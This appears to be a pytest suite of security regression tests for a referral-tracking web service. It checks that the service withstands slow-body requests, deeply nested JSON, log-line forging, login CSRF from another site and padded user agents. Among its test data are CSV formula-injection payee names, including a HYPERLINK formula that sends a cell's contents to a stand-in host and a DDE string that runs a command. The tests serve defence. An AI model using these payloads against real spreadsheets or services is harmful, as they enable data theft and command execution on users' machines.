"""Issue 12, items 7, 8, 12, 14, 15, 16 and 17: what goes in (bodies, headers, beacons, times,
user agents) and what comes out (payout files, log lines, error messages).

Each test is the attack: a socket that promises a body and sends one byte, a signature header
in another script, a payee named like a spreadsheet formula, a newline in a path, a login
posted from another site, a user agent padded to kilobytes, a time past the year 9999.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import hmac
import io
import json
import logging
import os
import re
import stat
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import asyncpg
import pytest
from aiohttp import DummyCookieJar, web
from aiohttp.test_utils import TestClient

from fraud.bots import BotDetector
from tests.helpers import ClientFactory, auth, make_link, make_settings, wait_for_clicks
from tests.shop import Shop
from tracker.finance.clearance import release
from tracker.formats import MAX_UA as STORED_UA
from tracker.web.app import create_app

Client = TestClient[web.Request, web.Application]
BOUND_S = 30.0  # generous: only a server that never answers takes this long


def _signed(body: bytes, secret: str, *, v1: str | None = None,
            stamp: int | None = None) -> dict[str, str]:
    stamp = int(time.time()) if stamp is None else stamp
    mac = hmac.new(secret.encode(), f"{stamp}.".encode() + body, hashlib.sha256).hexdigest()
    return {"X-Refguard-Signature": f"t={stamp},v1={mac if v1 is None else v1}",
            "Content-Type": "application/json"}


def _purchase(**extra: Any) -> dict[str, Any]:
    return {"program": "acme", "event_id": "ord-1", "type": "purchase", "customer_id": "c-9",
            "amount": 4999, "currency": "EUR", **extra}


# -- item 7: a slow body holds a connection ---------------------------------------------------


async def _send(client: Client, head: str, body: bytes = b"") -> tuple[
        asyncio.StreamReader, asyncio.StreamWriter]:
    """A raw request: the head as given (it promises a body), then only `body`."""
    assert client.server.port is not None
    reader, writer = await asyncio.open_connection(client.server.host, client.server.port)
    writer.write(head.replace("\n", "\r\n").encode() + b"\r\n" + body)
    await writer.drain()
    return reader, writer


async def _status(reader: asyncio.StreamReader) -> int:
    line = await asyncio.wait_for(reader.readline(), BOUND_S)
    assert line.startswith(b"HTTP/1.1 "), line
    return int(line.split()[1])


async def _answered_and_closed(reader: asyncio.StreamReader, writer: asyncio.StreamWriter
                               ) -> int:
    """The status of the answer, once the server has also closed the connection."""
    status = await _status(reader)
    await asyncio.wait_for(reader.read(), BOUND_S)  # to EOF: the server hung up
    writer.close()
    return status


async def _wait_until(check: Any) -> None:
    for _ in range(int(BOUND_S / 0.02)):
        if check():
            return
        await asyncio.sleep(0.02)
    raise AssertionError("never happened")


async def test_a_body_that_never_arrives_does_not_hold_the_server(
    dsn: str, tmp_path: Path, tokens: dict[str, str], aiohttp_client: ClientFactory,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`Content-Length: 1000` and one byte, on every endpoint a stranger may post to: the body
    read gives up after the (here small) timeout with a 408 and the connection is closed; a
    bearer token or a malformed signature is refused before any body is read; and strangers
    cannot have more than a few body reads under way at once."""
    from tracker.web import keys
    from tracker.web.bodies import BodyReads

    monkeypatch.setattr("tracker.clicks.redirect.SIGNALS_READ_S", 0.5)
    app = create_app(make_settings(tmp_path / "data", dsn))
    reads = BodyReads(timeout_s=0.5, max_unauthenticated=2)
    app[keys.BODY_READS] = reads
    client = await aiohttp_client(app, cookie_jar=DummyCookieJar())
    await make_link(client, tokens, settings={"fingerprint": "browser"})
    signature = f"t={int(time.time())},v1={'0' * 64}"
    slow_signed = ("POST /api/v1/conversions HTTP/1.1\nHost: t\nContent-Type: application/json\n"
                   f"X-Refguard-Signature: {signature}\nContent-Length: 1000\n")
    slow_login = ("POST /review/login HTTP/1.1\nHost: t\nContent-Length: 1000\n"
                  "Content-Type: application/x-www-form-urlencoded\n")
    slow_beacon = "POST /r/alice1/s HTTP/1.1\nHost: t\nContent-Length: 1000\n"
    for head, first_byte in ((slow_signed, b"{"), (slow_login, b"t"), (slow_beacon, b"{")):
        assert await _answered_and_closed(*await _send(client, head, first_byte)) == 408, head

    # Header first: a wrong token and a malformed signature are refused, the body unread.
    slow_bearer = ("POST /api/v1/conversions HTTP/1.1\nHost: t\nAuthorization: Bearer rg_nope\n"
                   "Content-Length: 1000\n")
    bad_signature = slow_signed.replace(signature, "t=1,v1=00")
    for head in (slow_bearer, bad_signature):
        reader, writer = await _send(client, head, b"{")
        assert await _status(reader) == 401, head
        writer.close()

    # At most two strangers' bodies at a time here: a third is told to come back (503).
    reads.timeout_s = BOUND_S
    held = [await _send(client, slow_signed, b"{") for _ in range(2)]
    await _wait_until(lambda: reads.active == 2)
    resp = await client.post("/api/v1/conversions", data=b"{}",
                             headers={"X-Refguard-Signature": signature})
    assert resp.status == 503 and resp.headers["Retry-After"] == "1"
    login = await client.post("/review/login", data={"token": tokens["finance"]},
                              allow_redirects=False)
    assert login.status == 503
    # A token holder is not a stranger: not counted, not refused.
    ok = await client.post("/api/v1/conversions", json=_purchase(),
                           headers=auth(tokens["integration"]))
    assert ok.status == 201
    for _, writer in held:
        writer.close()
    await _wait_until(lambda: reads.active == 0)


# -- item 8: bad input answered with a 500 -----------------------------------------------------


async def _beacon_tokens(client: Client) -> tuple[str, str]:
    html = await (await client.get("/r/alice1", allow_redirects=False)).text()
    cid = re.search(r'cid:"([^"]+)"', html)
    tok = re.search(r'tok:"([^"]+)"', html)
    assert cid and tok
    return cid.group(1), tok.group(1)


DEEP = 20_000  # levels of "[": past Python's recursion limit, inside every size limit


@pytest.mark.parametrize("attack", [
    "non_ascii_v1", "huge_timestamp", "deep_json_signed", "deep_json_bearer",
    "deep_beacon", "non_ascii_beacon_token", "lone_surrogate_user_agent",
    "lone_surrogate_user_agent_signed",
])
async def test_hostile_input_gets_a_4xx_never_a_500(
    client: Client, tokens: dict[str, str], attack: str,
) -> None:
    await make_link(client, tokens, settings={"fingerprint": "browser"})
    resp = await client.get("/api/v1/programs/acme", headers=auth(tokens["admin"]))
    secret = (await resp.json())["signing_secret"]
    body = json.dumps(_purchase()).encode()
    surrogate = json.dumps(_purchase()).replace('"c-9"', '"c-9", "user_agent": "\\ud800"').encode()
    deep = b"[" * DEEP + b"]" * DEEP
    url, data, headers = "/api/v1/conversions", body, _signed(body, secret)
    if attack == "non_ascii_v1":
        headers = _signed(body, secret, v1="é" * 64)
    elif attack == "huge_timestamp":
        headers = _signed(body, secret, stamp=10**400)
    elif attack == "deep_json_signed":
        data, headers = deep, _signed(deep, secret)
    elif attack == "deep_json_bearer":
        data, headers = b'{"program": ' + deep + b"}", auth(tokens["integration"])
    elif attack == "lone_surrogate_user_agent":
        data, headers = surrogate, auth(tokens["integration"])
    elif attack == "lone_surrogate_user_agent_signed":
        data, headers = surrogate, _signed(surrogate, secret)
    else:
        cid, _ = await _beacon_tokens(client)
        url, headers = "/r/alice1/s", {}
        data = (b"[" * 2048 + b"]" * 2048 if attack == "deep_beacon"
                else json.dumps({"cid": cid, "tok": "é" * 32}).encode())
    resp = await client.post(url, data=data, headers=headers)
    assert 400 <= resp.status < 500, (resp.status, await resp.text())
    if url.startswith("/api/"):
        assert (await resp.json())["error"]["code"] in ("bad_request", "unauthorized", "invalid")


async def test_a_beacon_with_text_jsonb_refuses_cannot_stop_the_flusher(
    client: Client, tokens: dict[str, str], conn: asyncpg.Connection,
) -> None:
    """Found with item 8: signals PostgreSQL's jsonb refuses (NUL, a lone surrogate, NaN)
    reached the journal, and the flusher retried that batch for ever: no click after it was
    ever stored. They are dropped at the beacon; the clicks and sane signals flow on."""
    await make_link(client, tokens, settings={"fingerprint": "browser"})
    for hostile in ('"tz": "\\u0000"', '"plat": "\\udc00"', '"langs": ["\\ud800"]',
                    '"dpr": NaN'):
        cid, tok = await _beacon_tokens(client)
        resp = await client.post("/r/alice1/s", data=(
            f'{{"cid": "{cid}", "tok": "{tok}", "sw": 1920, {hostile}}}').encode())
        assert resp.status in (204, 400), hostile
    cid, tok = await _beacon_tokens(client)
    resp = await client.post("/r/alice1/s", data=json.dumps({"cid": cid, "tok": tok, "sw": 1}))
    assert resp.status == 204
    assert await wait_for_clicks(conn, 5) == 5
    stored = None
    for _ in range(300):
        stored = await conn.fetchval(
            "SELECT signals::text FROM click_signals WHERE click_id = $1::uuid", cid)
        if stored is not None:
            break
        await asyncio.sleep(0.05)
    assert stored is not None and json.loads(stored) == {"sw": 1}


# -- item 12: the payout file runs formulas and is readable by all -----------------------------


async def test_a_payee_named_like_a_formula_is_text_in_a_private_payout_file(
    aiohttp_client: ClientFactory, tmp_path: Path, dsn: str, tokens: dict[str, str],
    conn: asyncpg.Connection,
) -> None:
    shop = await Shop.open(aiohttp_client, tmp_path, dsn, tokens, conn, {
        "hold_days": 0, "reward": {"rules": [
            {"beneficiary": "referrer", "on": "purchase", "flat": 2000}]}})
    evil = {"evil1": '=HYPERLINK("https://evil.test/?"&A1,"Details")',
            "evil2": "@SUM(1+1)*cmd|' /C calc'!A0", "evil3": "-2+3", "evil4": "+SUM(1,1)"}
    for code, name in evil.items():
        await make_link(shop.client, tokens, referrer=name, code=code)
        await shop.buy(code, f"p-{code}", f"c-{code}")
    await release(conn)
    assert await conn.fetchval("SELECT count(*) FROM rewards WHERE status = 'approved'") == 4
    out = tmp_path / "batch.csv"
    env = {**os.environ, "REFGUARD_DATABASE_URL": dsn, "REFGUARD_DATA_DIR": str(tmp_path / "c")}
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-c", "import os, sys; os.umask(0o022); from tracker.cli import main; "
        "sys.exit(main())", "payouts", "export", "--out", str(out), env=env,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    _, err = await proc.communicate()
    assert proc.returncode == 0, err.decode()
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert sorted(r["beneficiary"] for r in rows) == sorted("'" + n for n in evil.values())
    assert all(r["amount"] == "2000" for r in rows)
    # Numbers stay numbers, a clawback's negative amount too; text is escaped whatever it is.
    from tracker.finance.payouts import csv_cell

    assert [csv_cell(v) for v in (-1500, "-1500", "+7", 0, None, "-", "+1-1", "\r1", "ok")] == [
        "-1500", "-1500", "+7", "0", "", "'-", "'+1-1", "'\r1", "ok"]


# -- item 14: a newline in a path forges a log line --------------------------------------------


@pytest.fixture
def text_log() -> Iterator[io.StringIO]:
    from tracker.logs import TextFormatter

    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(TextFormatter())
    logger = logging.getLogger("tracker")
    logger.addHandler(handler)
    try:
        yield out
    finally:
        logger.removeHandler(handler)


async def test_a_newline_in_a_path_cannot_forge_a_log_line(
    client: Client, text_log: io.StringIO,
) -> None:
    """With the database gone every API call logs its path; the path decodes %0A to a newline,
    which would start a line of the attacker's own in the text log."""
    from tracker.web import keys

    await client.app[keys.POOL].close()  # the database is gone
    forged = "2026-01-01 00:00:00,000 ERROR [1] tracker.audit: payout approved by admin"
    resp = await client.get("/api/v1/programs/x%0A" + forged.replace(" ", "%20"),
                            headers=auth("rg_any"))
    assert resp.status == 503
    logged = text_log.getvalue()
    assert "database unavailable for GET /api/v1/programs/x\\n2026-01-01" in logged
    assert not any(line.startswith("2026-01-01 00:00:00,000") for line in logged.splitlines())
    def fail() -> None:
        raise ValueError("bad value\r\n" + forged)

    try:
        fail()
    except ValueError:
        logging.getLogger("tracker.test").exception("failed on %s", "x\u2028" + forged)
    record = text_log.getvalue()[len(logged):]
    assert f"failed on x\\u2028{forged}" in record
    assert all(line.startswith("    ") for line in record.splitlines()[1:]), record


# -- item 15: login CSRF -----------------------------------------------------------------------


async def test_a_login_posted_from_another_site_is_refused(
    client: Client, tokens: dict[str, str], conn: asyncpg.Connection,
) -> None:
    """evil.test auto-submits a form to /review/login with the attacker's finance token: the
    victim's browser would be logged into the attacker's session. The browser names the site
    the form came from, and that is refused; this site's own page, and clients that are not
    browsers (no Origin, no Sec-Fetch-Site), log in as before."""
    ours = f"http://{client.server.host}:{client.server.port}"
    cross = [{"Origin": "https://evil.test"},
             {"Origin": "https://evil.test", "Sec-Fetch-Site": "cross-site"},
             {"Sec-Fetch-Site": "same-site"},
             {"Origin": "null"},
             {"Origin": f"http://{client.server.host}.evil.test:{client.server.port}"}]
    for headers in cross:
        resp = await client.post("/review/login", data={"token": tokens["finance"]},
                                 headers=headers, allow_redirects=False)
        assert resp.status == 403, headers
        assert "Set-Cookie" not in resp.headers
    assert await conn.fetchval("SELECT count(*) FROM review_sessions") == 0
    same = [{"Origin": ours, "Sec-Fetch-Site": "same-origin"}, {"Origin": ours},
            {"Sec-Fetch-Site": "same-origin"}, {}]
    for headers in same:
        resp = await client.post("/review/login", data={"token": tokens["finance"]},
                                 headers=headers, allow_redirects=False)
        assert resp.status == 303, headers
    assert await conn.fetchval("SELECT count(*) FROM review_sessions") == len(same)


# -- item 16: 1,500 regular expressions over an 8 KB user agent --------------------------------


def test_a_padded_user_agent_is_matched_on_what_is_stored() -> None:
    """An 8 KB user agent made every click cost 1,500 searches over all of it. Only the first
    MAX_UA characters are matched, the ones a click keeps: a crawler name past them is not
    looked for (nor stored), so the verdict is the stored UA's."""
    browser = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
               "Gecko) Chrome/131.0.0.0 Safari/537.36")
    padded = browser + " " + "a" * (8192 - len(browser)) + " Googlebot/2.1"
    detector = BotDetector()
    assert detector.classify(padded) == detector.classify(padded[:STORED_UA])
    assert not detector.classify(padded).is_bot
    assert detector.classify(padded[-1000:]).is_bot  # the same crawler name, within the cut
    from fraud.bots import MAX_UA

    assert MAX_UA == STORED_UA


# -- item 17: a 422 quotes the database driver ---------------------------------------------------


async def test_an_out_of_range_value_is_refused_in_the_apis_own_words(
    client: Client, tokens: dict[str, str],
) -> None:
    """A time past year 9999 in UTC, a cursor naming an id past 64 bits and a NUL in a path
    reached PostgreSQL or asyncpg, whose error text (the query's argument numbers, the input,
    the encoding) was the answer. The first two are refused by the API's own checks, naming
    the field; whatever else the database refuses is answered in the API's general words."""
    await make_link(client, tokens)
    admin = auth(tokens["admin"])
    cursor = base64.urlsafe_b64encode(b"9" * 30).decode().rstrip("=")
    for url, field in (("/api/v1/clicks?program=acme&since=9999-12-31T23:59:59-23:59", "since"),
                       (f"/api/v1/programs?cursor={cursor}", "cursor"),
                       ("/api/v1/programs/a%00b", None)):
        resp = await client.get(url, headers=admin)
        text = await resp.text()
        assert resp.status == 422, text
        assert (await resp.json())["error"].get("field") == field
        for driver_words in ("asyncpg", "argument", "int64", "9" * 30, "0x00", "UTF8",
                             "invalid input", "byte sequence"):
            assert driver_words not in text, text
